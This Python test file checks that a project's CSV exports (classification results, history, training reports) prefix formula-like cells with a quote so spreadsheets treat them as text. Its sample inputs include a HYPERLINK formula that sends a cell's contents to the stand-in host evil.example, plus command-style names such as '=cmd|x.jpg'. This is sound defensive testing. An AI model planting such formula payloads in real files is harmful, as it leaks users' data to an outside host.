"""Every CSV the project writes goes through the one writer (csvfile.py), so that no cell a
user chose (a file name, a ZIP member, a class name from a correction) is ever read as a formula
by the spreadsheet that opens it.

SURFACES lists each CSV a user can get and the test that shows its guard; a module that starts
writing CSV without being listed here fails `test_every_csv_producing_module_is_listed`."""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from localvision.cli import app
from localvision.csvfile import FORMULA_STARTS, csv_text, safe_cell

SRC = Path(__file__).resolve().parents[1] / "src" / "localvision"
HOSTILE = ['=HYPERLINK("https://evil.example?d="&A3,"Click")', "-2+3", "+1", "@SUM(A1)",
           "\t=1", "\r=1"]  # fmt: skip

# module (under src/localvision) -> the CSV it gives a user, and the test showing its guard
SURFACES = {
    "report.py": "classify results (CLI --format csv / --output x.csv, HTTP ?format=csv): "
                 "test_the_classify_cli_keeps_a_formula_file_name_text here, "
                 "test_api.py::test_a_file_name_that_looks_like_a_formula_stays_text_in_the_csv",
    "cli/render.py": "the CLI's CSV rows: test_the_classify_cli_keeps_a_formula_file_name_text",
    "server/routes/results_csv.py": "HTTP ?format=csv: test_api.py::test_a_file_name_that_looks_"
                                    "like_a_formula_stays_text_in_the_csv; POST /api/v1/results.csv"
                                    ": test_results_csv.py::test_a_formula_file_name_stays_text",
    "history.py": "GET /api/v1/history.csv: test_history.py::test_csv_cells_that_look_like_"
                  "formulas_stay_text",
    "cli/video.py": "localvision video --format csv (rows_to_csv, the guard tested here)",
    "streams/watch.py": "watch --output x.csv (rows_to_csv, the guard tested here)",
    "scale/batch.py": "classify --ray --output x.csv (rows_to_csv, the guard tested here)",
    "training/report.py": "a trained model's report/*.csv: "
                          "test_a_training_reports_formula_class_names_and_files_as_text",
}  # fmt: skip
_WRITES_CSV = re.compile(r"rows_to_csv|csv_text|write_csv|csv\.writer|csv\.DictWriter|to_csv\(")


@pytest.mark.unit
def test_only_the_one_writer_makes_csv():
    for path in SRC.rglob("*.py"):
        if path.name != "csvfile.py":
            text = path.read_text("utf-8")
            assert not re.search(r"csv\.(writer|DictWriter)\(", text), path


@pytest.mark.unit
def test_every_csv_producing_module_is_listed():
    found = {
        str(p.relative_to(SRC)) for p in SRC.rglob("*.py")
        if p.name != "csvfile.py" and _WRITES_CSV.search(p.read_text("utf-8"))
    }  # fmt: skip
    assert found == set(SURFACES), f"listed {sorted(SURFACES)}, writing CSV: {sorted(found)}"


@pytest.mark.parametrize("cell", HOSTILE)
@pytest.mark.unit
def test_a_cell_that_looks_like_a_formula_stays_text(cell):
    assert safe_cell(cell) == "'" + cell
    (row,) = list(csv.reader(io.StringIO(csv_text(None, [[cell, 3, -2.5]]))))
    assert row == ["'" + cell, "3", "-2.5"]  # numbers are numbers, not text


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]


def assert_no_formula(text: str) -> None:
    bad = [c for c in cells(text) if c.startswith(FORMULA_STARTS)]
    assert not bad, bad


def test_the_classify_cli_keeps_a_formula_file_name_text(tmp_path, photos, lite0_package):
    names = ["=1+2.jpg", "-3.jpg", "@cmd.jpg"]
    for name in names:
        (tmp_path / name).write_bytes(photos["coffee"])
    cwd = os.getcwd()
    os.chdir(tmp_path)
    try:
        result = CliRunner().invoke(app, ["classify", "--model", "efficientnet_lite0", "--format",
                                          "csv", "--output", "out.csv", "--", *names])  # fmt: skip
    finally:
        os.chdir(cwd)
    assert result.exit_code == 0, result.output
    text = (tmp_path / "out.csv").read_text("utf-8")
    assert_no_formula(text)
    assert {"'=1+2.jpg", "'-3.jpg", "'@cmd.jpg"} <= set(cells(text))


def test_a_training_reports_formula_class_names_and_files_as_text(tmp_path, empty_cache,
                                                                  photo_dir):  # fmt: skip
    """The review's case: a class named like a formula (a correction's label, or a CSV
    dataset's) and a file name like one, through a real `localvision train`."""
    photos = sorted(photo_dir.glob("*.jpg"))
    rows = ["path,label"]
    for n, label in enumerate(HOSTILE[:2]):
        rows += [f'{p},"{label.replace(chr(34), chr(34) * 2)}"' for p in photos[n::2]] * 2
    rows.append('=cmd|x.jpg,"-2+3"')  # a file that is not there: skipped, and named
    (tmp_path / "data.csv").write_text("\n".join(rows) + "\n", "utf-8")
    proc = subprocess.run(
        [sys.executable, "-m", "localvision", "train", str(tmp_path / "data.csv"), "--name",
         "formulas", "--base", "efficientnet_lite0", "--mode", "head", "--epochs", "2",
         "--progress", "none", "--threads", "2"],
        capture_output=True, text=True, timeout=600,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    report = Path(os.environ["LOCALVISION_MODEL_DIR"]) / "formulas" / "report"
    per_class = (report / "per_class.csv").read_text("utf-8-sig")
    skipped = (report / "skipped.csv").read_text("utf-8-sig")
    for text in (per_class, skipped, (report / "epochs.csv").read_text("utf-8-sig")):
        assert_no_formula(text)
    assert {"'" + HOSTILE[0], "'-2+3"} <= set(cells(per_class))
    assert "'=cmd|x.jpg" in cells(skipped)
